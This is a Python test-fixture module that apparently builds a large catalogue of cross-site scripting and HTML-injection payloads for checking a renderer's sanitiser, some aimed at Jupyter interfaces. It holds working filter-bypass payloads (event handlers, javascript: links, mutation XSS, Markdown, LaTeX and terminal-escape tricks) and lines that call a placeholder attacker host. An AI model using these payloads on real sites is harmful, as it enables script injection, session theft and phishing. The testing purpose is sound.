"""Texts that attack whoever shows them: each says so itself, by `top.ran`, when it runs, or asks another host.

`{run}` stands for a script that reports it, in single quotes only; `{url}` for an address that is no part of the page.
"""

from __future__ import annotations

from base64 import b64encode
from html import escape

ATTACKER = "http://198.51.100.7"
"""An address that documentation has for itself (RFC 5737): nobody is there."""

_SCRIPTS = {
    "script": "<script>{run}</script>",
    "script_in_odd_case": "<ScRiPt\n>{run}</sCrIpT >",
    "script_from_afar": "<script src={url}></script>",
    "script_as_module": "<script type=module>{run}</script>",
    "script_inside_script": "<scr<script>ipt>{run}</scr</script>ipt>",
    "script_without_end": "text <script>{run}",
    "script_in_svg": "<svg><script>{run}</script></svg>",
    "script_in_svg_as_entities": "<svg><script>{entities}</script></svg>",
    "script_from_afar_in_svg": "<svg><script xlink:href={url} href={url}></script></svg>",
    "script_behind_our_stylesheet": "</style></div></pre></details><script>{run}</script>",
}
_HANDLERS = {
    "img_error": '<img src=x onerror="{run}">',
    "img_error_with_slashes": '<img/src/onerror="{run}"/x>',
    "img_error_unquoted": "<IMG SRC=x OnError={run}>",
    "img_error_without_end": '<img src=x onerror="{run}" alt=',
    "img_error_over_lines": '<img\nsrc=x\n\tonerror\n=\n"{run}"\n>',
    "svg_load": '<svg/onload="{run}">',
    "svg_animation": '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>',
    "details_toggle": '<details open ontoggle="{run}">x</details>',
    "autofocus": '<input autofocus onfocus="{run}">',
    "autofocus_of_anything": '<b tabindex=1 autofocus onfocus="{run}">x</b>',
    "video_source_error": '<video><source onerror="{run}"></video>',
    "audio_error": '<audio src=x onerror="{run}"></audio>',
    "marquee": '<marquee onstart="{run}">x</marquee>',
    "body_load": '<body onload="{run}" onpageshow="{run}">',
    "style_load": '<style onload="{run}"></style>',
    "our_own_animation": '<b style="animation:la-spin 1s" onanimationstart="{run}">x</b>',
    "transition": '<style>.t{{transition:1s}}</style><b class=t style="animation:la-secs 1s" onanimationstart="{run}">x</b>',
    "pointer": '<b onclick="{run}" onpointerenter="{run}" onmouseover="{run}">x</b>',
    "popover": '<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle="{run}">y</div>',
    "content_visibility": '<b style="content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</b>',
}
_LINKS = {
    "javascript_link": '<a href="javascript:{run}">x</a>',
    "javascript_link_with_a_tab": '<a href="java\tscr\nipt:{run}">x</a>',
    "javascript_link_as_entities": '<a href="&#106;avascript&colon;{run}">x</a>',
    "javascript_link_behind_a_control_character": '<a href="\x01javascript:{run}">x</a>',
    "javascript_link_in_svg": '<svg><a xlink:href="javascript:{run}" href="javascript:{run}"><text y=20>x</text></a></svg>',
    "javascript_link_in_math": '<math href="javascript:{run}">x</math>',
    "area": '<map name=m><area shape=default href="javascript:{run}"></map><img usemap=#m src=x>',
    "data_link": '<a href="data:text/html;base64,{page64}">x</a>',
    "vbscript_link": '<a href="vbscript:msgbox(1)">x</a>',
    "ping": '<a href="#" ping="{url}">x</a>',
    "link_to_a_frame_of_the_page": '<a href="javascript:{run}" target=_top>x</a>',
    "markdown_link": "[x](javascript:{run})",
    "markdown_link_in_odd_case": "[x](JaVaScRiPt:{run})",
    "markdown_link_in_angles": "[x](<javascript:{run}>)",
    "markdown_link_as_entities": "[x](&#x6A;avascript:{run})",
    "markdown_link_with_a_tab": "[x](<java\tscript:{run}>)",
    "markdown_link_with_vbscript": "[x](vbscript:msgbox)",
    "markdown_link_with_data": "[x](data:text/html;base64,{page64})",
    "markdown_reference": "[x][1]\n\n[1]: javascript:{run}",
    "markdown_autolink": "<javascript:{run}>",
    "markdown_title": '[x](http://127.0.0.1:1/ "a\\" onpointerenter=\\"{run}")',
    "markdown_autolink_with_quotes": '<http://127.0.0.1:1/"onpointerenter="{run}>',
    "markdown_text_of_a_link": '[<img src=x onerror="{run}">](http://127.0.0.1:1/)',
    "link_into_the_server": "[x](/api/contents?token) [y](../../lab/tree/x.ipynb) [z](//198.51.100.7/z)",
}
_FETCHES = {
    "image": "<img src={url}>",
    "image_set": '<img srcset="{url} 1x, {url} 2x">',
    "picture": "<picture><source srcset={url}><img src=data:,></picture>",
    "markdown_image": "![x]({url})",
    "markdown_image_by_reference": "![x][p]\n\n[p]: {url}",
    "markdown_image_that_is_svg": "![x](data:image/svg+xml;base64,{svg64})",
    "markdown_image_with_quotes": '![" onerror="{run}]({url} "\\" onload=\\"{run}")',
    "svg_image": "<svg><image href={url} xlink:href={url} /><use href={url}#x /></svg>",
    "svg_filter": "<svg><filter id=f><feImage href={url} /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "image_button": "<input type=image src={url}>",
    "poster": "<video poster={url}></video>",
    "sound": "<audio src={url} autoplay></audio><bgsound src={url}>",
    "stylesheet": "<link rel=stylesheet href={url}>",
    "preload": "<link rel=preload as=image href={url}><link rel=prefetch href={url}><link rel=icon href={url}>",
    "frame": "<iframe src={url}></iframe>",
    "frame_with_a_page": '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "frame_with_a_script": '<iframe src="javascript:{run}"></iframe>',
    "object": "<object data={url}></object><embed src={url}>",
    "old_background": "<table background={url}><tr><td background={url}>x</table>",
}
_PAGES = {
    "refresh": '<meta http-equiv=refresh content="0;url={url}">',
    "refresh_with_data": '<meta http-equiv="refresh" content="0;url=data:text/html;base64,{page64}">',
    "base": "<base href={url}/ target=_top><img src=under-the-base>",
    "form": "<form action={url}><input type=submit value=x></form>",
    "form_with_a_script": '<form action="javascript:{run}"><input type=submit value=x></form>',
    "button_of_a_form": '<form id=g></form><button form=g formaction="javascript:{run}">x</button>',
    "command_linker": "<button data-commandlinker-command=notebook:insert-cell-below data-commandlinker-args={{}}>x</button>",
    "command_linker_on_a_link": '<a href="#" data-commandlinker-command="notebook:insert-cell-below">x</a>',
    "command_linker_in_markdown": '\n\n<div data-commandlinker-command="notebook:insert-cell-below">x</div>\n\n',
    "names_for_the_page": "<form id=jupyterapp name=jupyterapp><input name=shell><img name=ran></form>",
    "template": '<template><img src=x onerror="{run}"></template><slot name=x></slot>',
    "shadow": '<div><template shadowrootmode=open><img src=x onerror="{run}"></template></div>',
    "custom_element": '<x-y is=z onfocus="{run}" tabindex=1 autofocus>x</x-y>',
}
_STYLES = {
    "over_everything": '<div style="position:fixed;inset:0;z-index:99999;background:url({url})">x</div>',
    "stylesheet_of_the_page": "<style>body{{display:none!important}}</style>",
    "import": "<style>@import '{url}';</style>",
    "url_in_a_stylesheet": "<style>*{{background-image:url({url})!important}}</style>",
    "font": "<style>@font-face{{font-family:f;src:url({url})}}*{{font-family:f!important}}</style>",
    "image_set_in_a_style": "<b style=\"content:image-set('{url}' 1x);position:absolute;top:0\">x</b>",
    "classes_of_the_page": '<div class="jp-Dialog jp-mod-styled lm-Widget" id=jp-main-dock-panel role=dialog>sign in</div>',
    "end_of_our_stylesheet": "</style><style>@import '{url}';</style>",
}
_MUTATIONS = {
    "mutation_by_mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
    "mutation_by_svg_style": '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    "mutation_by_noscript": '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "mutation_by_form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "mutation_by_comment": "<!--><img src=x onerror={run}>-->",
    "mutation_by_cdata": "<svg><![CDATA[><img src=x onerror={run}>]]></svg>",
    "mutation_by_textarea": '<textarea><p title="</textarea><img src=x onerror={run}>">',
    "mutation_by_xmp": '<xmp><p title="</xmp><img src=x onerror={run}>">',
    "mutation_by_title": '<title><a title="</title><img src=x onerror={run}>">',
    "mutation_by_annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror="{run}"></annotation-xml></math>',
    "mutation_by_foreign_object": '<svg><foreignObject><img src=x onerror="{run}"></foreignObject></svg>',
    "mutation_by_template": '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={run}>">x</a>',
    "plaintext": "<plaintext>the rest of the page",
    "twice_encoded": "&lt;img src=x onerror={run}&gt; &amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    "code_block": '```html" onpointerenter="{run}\n<img src=x onerror="{run}">\n```',
    "code_block_of_a_strange_language": '~~~<img src=x onerror="{run}">\n</code></pre><img src=x onerror="{run}">\n~~~',
    "table": '| a | b |\n|---|:-:|\n| <img src=x onerror="{run}"> | <a href="javascript:{run}">x</a> |',
    "list": '- <details open ontoggle="{run}">x\n- > <svg onload="{run}">',
}
_FORMULAS = {
    "formula_link": r"$\href{{javascript:{run}}}{{x}}$ and $$\href{{javascript:{run}}}{{x}}$$",
    "formula_style": r"$\style{{position:fixed;inset:0;background:url({url})}}{{x}}$",
    "formula_names": r"$\cssId{{jupyterapp}}{{\class{{jp-Dialog}}{{x}}}}$ $\require{{html}}\data{{commandlinker-command=x}}{{y}}$",
    "formula_text": r'$\text{{<img src=x onerror="{run}">}}$ \(\unicode{{<script>{run}</script>}}\)',
    "formula_image": r"$\includegraphics{{{url}}}$",
    "formula_without_end": r"$\def\a{{\a\a}}\a$ $$\begin{{array}}",
    "dollars_around_html": '$ <img src=x onerror="{run}"> $ and $5 <svg onload="{run}"> $6',
}
_TERMINAL = {
    "terminal_link": "\x1b]8;;javascript:{run}\x07x\x1b]8;;\x07",
    "terminal_link_afar": "\x1b]8;;{url}\x1b\\x\x1b]8;;\x1b\\ \x1b]8;;{url}",
    "colours_around_html": '\x1b[31m<img src=x onerror="{run}">\x1b[0m \x1b[1;38;5;9m<svg onload="{run}">',
    "colours_inside_a_tag": '<scr\x1b[0mipt>{run}</scr\x1b[0mipt> <im\x1b[31mg src=x onerror="{run}">',
    "colour_codes_that_are_html": '\x1b[38;2;1;2;"><img src=x onerror={run}>m \x1b]0;<script>{run}</script>\x07',
    "cursor": "before\r<img src=x onerror={run}>\x1b[2J\x1b[1;1H\x08\x08<svg onload={run}>",
    "reordered": "\u202e<img src=x onerror={run}>\u202c \u2066<script>{run}</script>\u2069",
    "zero_width": "<\u200bscript>{run}</script> <script\ufeff>{run}</script>",
    "full_width": "\uff1cscript\uff1e{run}\uff1c/script\uff1e <\u017fcript>{run}</\u017fcript>",
    "nothing_in_between": "<scr\0ipt>{run}</scr\0ipt> <img src=x one\0rror={run}>",
    "line_separators": "[x](java\u2028script:{run}) <img\u2028src=x\u2029onerror={run}>",
}

_TEMPLATES = {
    **_SCRIPTS, **_HANDLERS, **_LINKS, **_FETCHES, **_PAGES, **_STYLES, **_MUTATIONS, **_FORMULAS, **_TERMINAL,
}  # fmt: skip


def _written(name: str, template: str) -> str:
    run = f"top.ran.push('{name}')"
    page = b64encode(f"<script>parent.postMessage(1);location='{ATTACKER}/{name}'</script>".encode()).decode()
    svg = b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{ATTACKER}/{name}"/></svg>'.encode()
    ).decode()
    entities = "".join(f"&#{ord(letter)};" for letter in run)
    return template.format(run=run, url=f"{ATTACKER}/{name}", entities=entities, page64=page, svg64=svg)


ATTACKS: dict[str, str] = {name: _written(name, template) for name, template in _TEMPLATES.items()}
"""Every attack by its name, which is what it reports."""


def unguarded_page() -> str:
    """Return a page that shows every attack as it is, or as Markdown that lets HTML through, in a frame each."""
    from markdown_it import MarkdownIt

    markdown = MarkdownIt("commonmark", {"html": True}).enable("table")
    markdown.validateLink = lambda _: True
    shown = [text if text.startswith("<") else markdown.render(text) for text in ATTACKS.values()]
    frames = "".join(f'<iframe srcdoc="{escape(text)}"></iframe>' for text in shown)
    return f"<script>window.ran = []</script>{frames}"
